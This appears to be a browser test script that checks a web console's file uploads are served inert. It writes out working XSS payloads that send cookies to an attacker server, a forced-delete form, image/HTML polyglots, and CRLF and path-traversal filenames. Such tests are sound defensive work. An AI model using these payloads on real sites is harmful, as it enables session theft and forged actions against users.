// Files that somebody means ill with, opened in a browser from their address, from the console, and inside a page of the attacker's.
// Arguments: the console's link, the gateway.

import assert from 'node:assert/strict'
import { createServer } from 'node:http'

import { browsing } from './browser.mjs'

const [link, gateway] = process.argv.slice(2)
const console_ = new URL(link).origin

// Hears of whatever ran, or was fetched by a file; and serves the attacker's own pages.
const heard = []
const pages = new Map()
const server = createServer((request, reply) => {
  const { pathname } = new URL(request.url, 'http://x')
  reply.setHeader('access-control-allow-origin', '*')
  const page = pages.get(pathname)
  if (page !== undefined) return reply.setHeader('content-type', 'text/html; charset=utf-8').end(page)
  if (pathname !== '/favicon.ico') heard.push(request.url)
  reply.end()
})
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
const attacker = `http://127.0.0.1:${server.address().port}`

const script = `fetch('${attacker}/ran?'+encodeURIComponent(self.origin+document.cookie));fetch('${console_}/files',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('${attacker}/read?'+t.length))`
const HTML = `<!doctype html><title>ran</title><script>${script}</script><img src=x onerror="${script}"><body onload="${script}">
<meta http-equiv=refresh content="0;url=${attacker}/refreshed"><iframe src="javascript:${script}"></iframe>
<form action="${console_}/files/delete" method=post id=f><input name=path value=a></form><script>f.submit()</script>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('&', '&amp;')}"><script>${script}</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${attacker}/framed"/></foreignObject></svg>`
const XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script}</script></head><body/></html>`
// A picture to those who look at its beginning, and a page, or a script, to those who look further.
const GIF_PAGE = `GIF89a/*${HTML}*/=1;${script}`
const PNG_PAGE = `\x89PNG\r\n\x1a\n${HTML}`

/** Name, type that is claimed, content. */
const FILES = [
  ['page.html', 'text/html', HTML],
  ['page.HTM', 'image/png', HTML],
  ['page.html ', 'text/html', HTML],
  ['page.shtml', 'text/html', HTML],
  ['page.xhtml', 'application/xhtml+xml', XHTML],
  ['page.xht', 'text/xml', XHTML],
  ['page.xml', 'text/xml', XHTML],
  ['page.xsl', 'text/xsl', XHTML],
  ['page.mhtml', 'multipart/related', HTML],
  ['page.pdf', 'text/html', HTML],
  ['picture.svg', 'image/svg+xml', SVG],
  ['picture.svgz', 'image/svg+xml', SVG],
  ['picture.png.html', 'image/png', HTML],
  ['picture.html.png', 'text/html', HTML],
  ['picture.png', 'text/html', PNG_PAGE],
  ['picture.gif', 'image/svg+xml', GIF_PAGE],
  ['picture.gif.js', 'text/javascript', GIF_PAGE],
  ['no-ending', 'text/html', HTML],
  ['no-ending-either', 'text/html; charset=utf-7', HTML],
  ['no-ending-picture', 'image/png', HTML],
  ['two-types', 'image/png, text/html', HTML],
  ['odd-type', 'image/svg+xml;x="', SVG],
  ['capital-type', 'TEXT/HTML', HTML],
  ['page.txt', 'text/html', HTML],
  ['page.json', 'text/html', HTML],
  ['page.css', 'text/html', HTML],
  ['page.unknown-ending', '', HTML],
  ['"; filename="page.html', 'text/html', HTML],
  ['a\';x=y,"b.svg', 'image/svg+xml', SVG],
  ['..%2f..%2fpage.html', 'text/html', HTML],
  ['<img src=x onerror=alert(1)>.png', 'text/html', HTML],
]

await browsing(async (browser) => {
  const page = await browser.open(link)

  /** Puts a file where it is told to go, as the console does. */
  const put = (path, type, content) =>
    page.evaluate(
      async (path, type, content) => {
        const headers = { 'hx-request': 'true' }
        const body = new URLSearchParams({ path })
        const { url, error } = await (await fetch('/files/place', { method: 'POST', headers, body })).json()
        if (error) return error
        const bytes = Uint8Array.from(content, (character) => character.codePointAt(0))
        // A body without a type of its own, so that none is sent where none is claimed.
        const reply = await fetch(url, {
          method: 'PUT',
          headers: type ? { ...headers, 'content-type': type } : headers,
          body: bytes,
        })
        return reply.status
      },
      path,
      type,
      content,
    )
  const addressOf = async (path) => {
    await page.goto(`${console_}/files/file?path=${encodeURIComponent(path)}`)
    return page.text('#address')
  }

  // What runs is heard of: the same page from the attacker's own server.
  const control = (word) => heard.some((url) => url.startsWith(`/control-${word}?`))
  pages.set(
    '/control',
    HTML.replaceAll('/ran?', '/control-ran?')
      .replaceAll('/read?', '/control-read?')
      .replace('src=x', 'src=/control-x')
      .replace('<meta', '<!--')
      .replace('f.submit()', ''),
  )
  const other = await browser.open(`${attacker}/control`)
  await other.until(() => document.title === 'ran')
  for (let waited = 0; !control('ran'); waited += 1) {
    assert.ok(waited < 400, 'the control did not run')
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  browser.complaints.length = 0
  // A page of the attacker's may take any script from anywhere for its own: that one runs with what the page has, which is nothing.
  const own = `/ran?${encodeURIComponent(attacker)}`
  /** What was heard of the files. */
  const ran = () => heard.filter((url) => !url.startsWith('/control-') && url !== own)

  const addresses = []
  for (const [name, type, content] of FILES) {
    assert.equal(await put(name, type, content), 200, name)
    const address = await addressOf(name)
    // Its page in the console has run nothing, and shows nothing of it but text and pictures.
    assert.equal(
      await page.evaluate(
        () => document.querySelectorAll('main iframe, main object, main embed, main script').length,
      ),
      0,
    )
    assert.deepEqual(ran(), [], name)
    addresses.push([name, address])
  }
  // Names by which nothing can be called.
  for (const [name, said] of [
    ['a\r\nset-cookie: x=y', 'U+000D'],
    ['a\nb.html', 'U+000A'],
    ['../a', '".."'],
    ['/a', 'begins with "/"'],
  ])
    assert.ok(`${await put(name, '', 'x')}`.includes(said), name)

  // What the door says of each: nothing that a browser would run goes out as what is shown.
  for (const [name, address] of addresses) {
    const reply = await fetch(address)
    const type = reply.headers.get('content-type')
    assert.equal(reply.headers.get('x-content-type-options'), 'nosniff', name)
    assert.match(reply.headers.get('content-security-policy'), /^sandbox; default-src 'none'/, name)
    const disposition = reply.headers.get('content-disposition')
    assert.equal(reply.headers.get('set-cookie'), null, name)
    if (/html|xml|svg|javascript|multipart|pdf|,/i.test(type)) {
      assert.match(disposition, /^attachment; filename\*=UTF-8''[\w.%-]+$/, `${name}: ${type}`)
    }
  }

  // Opened by itself: it is saved, or shown without anything of it running.
  const visitor = await browser.open(link.replace(/\?.*/, ''))
  for (const [name, address] of addresses) {
    const { errorText, isDownload } = await visitor.send('Page.navigate', { url: address })
    if (errorText) assert.ok(isDownload || errorText === 'net::ERR_ABORTED', `${name}: ${errorText}`)
    else await visitor.until((url) => document.readyState === 'complete' && location.href !== url, console_)
    assert.notEqual(await visitor.evaluate(() => document.title), 'ran', name)
  }

  // Inside the attacker's page, every way in: each says when it is done with it, well or not.
  const ways = addresses.map(([, address]) => {
    const url = address.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
    return `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><img src="${url}">
      <link rel=stylesheet href="${url}"><script src="${url}"></script><script type=module src="${url}"></script>`
  })
  pages.set('/framing', `<!doctype html><title>framing</title>${ways.join('\n')}`)
  const framing = await browser.open(`${attacker}/framing`)
  await framing.until(() => document.readyState === 'complete')
  assert.equal(await framing.evaluate(() => document.title), 'framing')

  // In the console, even where a text of it came to be markup: no script and no frame but its own.
  await page.goto(`${console_}/files`)
  const refused = await page.evaluate(
    async (urls) => {
      const refused = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.push(effectiveDirective),
      )
      const done = urls.flatMap((url) =>
        ['script', 'iframe', 'img'].map((tag) => {
          const element = document.createElement(tag)
          element.src = url
          const ended = new Promise((resolve) => {
            element.onload = element.onerror = resolve
          })
          document.body.append(element)
          return ended
        }),
      )
      await Promise.all(done)
      return refused
    },
    addresses.map(([, address]) => address),
  )
  assert.equal(refused.filter((directive) => directive.startsWith('script-src')).length, FILES.length)
  assert.equal(refused.filter((directive) => directive === 'frame-src').length, FILES.length)

  // From the console's own origin it comes as bytes to be kept, which is neither a page nor a script; and not by its address.
  const own_origin = await page.evaluate(
    async (names, urls) => {
      const kinds = new Set()
      for (const name of names) {
        const reply = await fetch(`/operator/files/content?${new URLSearchParams({ path: name })}`)
        kinds.add(
          `${reply.status} ${reply.headers.get('content-type')} ${reply.headers.get('content-disposition')}`,
        )
      }
      for (const url of urls) kinds.add(`${(await fetch(new URL(url).pathname)).status}`)
      return [...kinds]
    },
    FILES.map(([name]) => name),
    addresses.map(([, address]) => address),
  )
  assert.deepEqual(own_origin, ['200 application/octet-stream attachment', '404'])

  // A page of the gateway's own origin cannot ask the console for anything, with a cookie of its or without.
  await visitor.goto(`${gateway}/healthz`)
  for (const credentials of ['include', 'omit']) {
    const read = await visitor.evaluate(
      (url, credentials) =>
        fetch(url, { credentials }).then(
          () => 'read',
          () => 'refused',
        ),
      `${console_}/files`,
      credentials,
    )
    assert.equal(read, 'refused')
  }
  assert.equal(await visitor.evaluate(() => document.cookie), '')

  assert.deepEqual(ran(), [])
  assert.ok(!control('read'), 'another origin read the console')
})
server.close()
